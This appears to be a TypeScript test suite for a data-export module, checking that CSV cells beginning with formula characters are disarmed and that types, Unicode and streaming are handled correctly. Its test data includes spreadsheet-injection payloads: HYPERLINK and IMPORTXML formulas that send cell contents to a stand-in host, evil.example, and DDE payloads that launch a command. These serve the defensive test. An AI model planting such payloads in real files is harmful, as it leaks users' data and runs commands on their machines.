import { parse } from 'csv-parse/sync';
import { bytesOf, column } from './tables.js';

const STARTS = ['=', '+', '-', '@', '＝', '＋', '－', '＠', '\t', '\r', '\0'];
const BEFORE = ['', ' ', '   ', '\u00a0', '\u3000', '\u200b', '\ufeff', '\u2060', '\n '];
const FORMULAS = [
  ...BEFORE.flatMap((before) => STARTS.map((start) => `${before}${start}1+1`)),
  '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
  `=cmd|' /C calc'!A0`,
  "@SUM(1+1)*cmd|'/C calc'!A0",
  "-2+3+cmd|'/C calc'!A0",
  '=IMPORTXML(CONCAT("http://evil.example/?",A1:B2),"//a")',
];
const HARMLESS = [
  'Plan',
  'a=b',
  '1-2',
  'x@y.example',
  '"quoted"',
  'comma, and "quote"',
  'line\nbreak',
  'cr\r\nlf',
  'Ünïcödé 🎈 家',
  "'already",
  ' leading and trailing ',
  'x'.repeat(1_048_576),
  '9007199254740993',
];
const TEXT = [column('text', 'text')];
const read = (bytes: Buffer): string[][] => parse(bytes, { relax_column_count: false }).slice(1) as string[][];
/** As a spreadsheet looks at a cell: nothing that computes at its beginning, whatever blanks stand before it. */
const begins = (cell: string): boolean => /^[\s\p{Cc}\p{Cf}]*[=+\-@＝＋－＠]/u.test(cell);
const computes = (cell: string): boolean => begins(cell) || /^[\t\r\0]/.test(cell);

test(`${FORMULAS.length} formulas are disarmed, and nothing of them is lost`, async () => {
  expect(FORMULAS.length).toBeGreaterThan(80);
  const cells = read(
    await bytesOf(
      'csv',
      TEXT,
      FORMULAS.map((text) => [text]),
    ),
  ).map(([cell]) => cell!);
  expect(cells.filter(computes)).toEqual([]);
  // Behind a line's end it is disarmed once more: see below.
  const again = (text: string): string => text.replace(/\n (?=[=+\-@＝＋－＠])/, "\n' ");
  expect(cells).toEqual(FORMULAS.map((text) => `'${again(text)}`));
});

test.each([';', '\t', '\n', '\r', '\r\n', '; ', '\n \u200b', '\n\0', ';\u0001\u202e'])(
  'where a spreadsheet parts cells at %j, nothing computes behind it',
  async (parting) => {
    const texts = ['=1+1', '+1', '-1', '@SUM(1)', '＝1+1'].map((formula) => `said${parting}${formula}${parting}more`);
    const bytes = await bytesOf(
      'csv',
      [column('key', 'text'), ...TEXT],
      texts.map((text) => ['key', text]),
    );
    // As one that parts cells elsewhere reads it, to whom our quotes hold nothing together.
    expect(
      bytes
        .toString()
        .split(/[;\t\r\n]/)
        .filter(begins),
    ).toEqual([]);
    expect(read(bytes).map(([, text]) => text!.replaceAll("'", ''))).toEqual(texts);
  },
);

test('lossless leaves them as they are', async () => {
  const cells = read(
    await bytesOf(
      'csv',
      TEXT,
      FORMULAS.map((text) => [text]),
      true,
    ),
  );
  expect(cells).toEqual(FORMULAS.map((text) => [text]));
});

test('any other text comes back as it was', async () => {
  expect(
    read(
      await bytesOf(
        'csv',
        TEXT,
        HARMLESS.map((text) => [text]),
      ),
    ),
  ).toEqual(HARMLESS.map((text) => [text]));
});

test('half a character becomes the mark for it', async () => {
  expect(read(await bytesOf('csv', TEXT, [['a\ud800b']]))).toEqual([['a\ufffdb']]);
});

test('every type has its own writing; nothing and an empty text differ', async () => {
  const columns = [
    column('text', 'text'),
    column('integer', 'integer'),
    column('number', 'number'),
    column('boolean', 'boolean'),
    column('instant', 'instant'),
    column('date', 'date'),
    column('texts', 'texts'),
  ];
  const bytes = await bytesOf('csv', columns, [
    ['x', -5, -0.1, true, new Date('2026-03-31T12:00:00.007Z'), '2026-02-28', ['=a', 'b "c"']],
    ['', 2n ** 60n, 1e-7, false, null, null, []],
    [null, null, null, null, null, null, null],
  ]);
  expect(bytes.toString()).toBe(
    [
      'text,integer,number,boolean,instant,date,texts',
      'x,-5,-0.1,true,2026-03-31T12:00:00.007Z,2026-02-28,"[""=a"",""b \\""c\\""""]"',
      '"",1152921504606846976,1e-7,false,,,"[]"',
      ',,,,,,',
      '',
    ].join('\n'),
  );
});

test('JSON lines keep types and the order of the columns', async () => {
  const columns = [column('a', 'text'), column('n', 'integer'), column('at', 'instant'), column('list', 'texts')];
  const bytes = await bytesOf('jsonl', columns, [
    ['=1\n"', 2n ** 60n, new Date(0), ['x']],
    [null, null, null, null],
  ]);
  expect(bytes.toString()).toBe(
    '{"a":"=1\\n\\"","n":1152921504606846976,"at":"1970-01-01T00:00:00.000Z","list":["x"]}\n{"a":null,"n":null,"at":null,"list":null}\n',
  );
});

test.each(['csv', 'jsonl', 'parquet'] as const)('%s asks for rows as its reader takes bytes', async (format) => {
  const { encode } = await import('../../../src/export/files/format.js');
  let given = 0;
  async function* endless() {
    for (;;) {
      given++;
      yield Array.from({ length: 20_000 }, (_, k) => [`row ${k}`]);
    }
  }
  const bytes = encode(format, endless(), () => ({}) as never, TEXT, { lossless: false })[Symbol.asyncIterator]();
  for (let taken = 1; taken <= 5; taken++) {
    await bytes.next();
    expect(given).toBeLessThanOrEqual(taken + 1);
  }
  await bytes.return?.();
});
